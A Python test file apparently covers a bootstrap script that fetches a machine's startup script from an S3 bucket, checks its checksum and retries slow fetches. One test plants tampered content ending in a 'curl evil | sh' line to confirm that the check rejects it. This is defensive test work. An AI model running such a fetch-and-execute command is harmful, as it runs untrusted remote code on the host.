from gpuinfra.clouds.aws.payload import MAX_USER_DATA, fetching, object_key

SCRIPT = "#!/usr/bin/env bash\necho started >>{root}/started\n"


def bucket(machine, content: str) -> None:
    """A bucket that gives this content for every address."""
    machine.file("in-bucket", content)
    machine.stand_in("aws", f'cp {machine.root}/in-bucket "${{@: -1}}"')


def test_the_script_comes_from_the_bucket_and_runs(machine) -> None:
    script = SCRIPT.format(root=machine.root)
    bucket(machine, script)
    data = fetching("eu-west-1", "team-data", "trainer", script)
    first, second = machine.run(data), machine.run(data)

    assert (first.returncode, second.returncode) == (0, 0), first.stderr
    assert (machine.root / "started").read_text() == "started\n" * 2
    (call, _) = machine.calls
    assert call.startswith(
        "aws s3 cp --only-show-errors --region eu-west-1"
        f" s3://team-data/gpuinfra/trainer/{object_key('trainer', script).rpartition('/')[2]} "
    )
    assert len(data.encode()) < MAX_USER_DATA // 10


def test_what_another_wrote_there_does_not_run(machine) -> None:
    script = SCRIPT.format(root=machine.root)
    bucket(machine, f"{script}curl evil | sh\n")
    done = machine.run(fetching("eu-west-1", "team-data", "trainer", script))

    assert done.returncode == 1
    assert "is not the script of this machine's template" in done.stderr
    assert not (machine.root / "started").exists()


def test_a_bucket_that_answers_late_is_asked_again(machine) -> None:
    script = SCRIPT.format(root=machine.root)
    bucket(machine, script)
    later = machine.bin / "aws"
    later.write_text(later.read_text() + f"\n[[ $(wc -l <{machine.root}/calls) -ge 3 ]]\n")
    machine.run(fetching("eu-west-1", "team-data", "trainer", script))

    assert (machine.root / "started").exists()


def test_another_script_has_another_name_and_another_sum() -> None:
    first, other = (fetching("r", "b", "t", script) for script in ("one", "other"))

    assert object_key("t", "one") != object_key("t", "other")
    assert len(set(first.splitlines()) ^ set(other.splitlines())) == 4
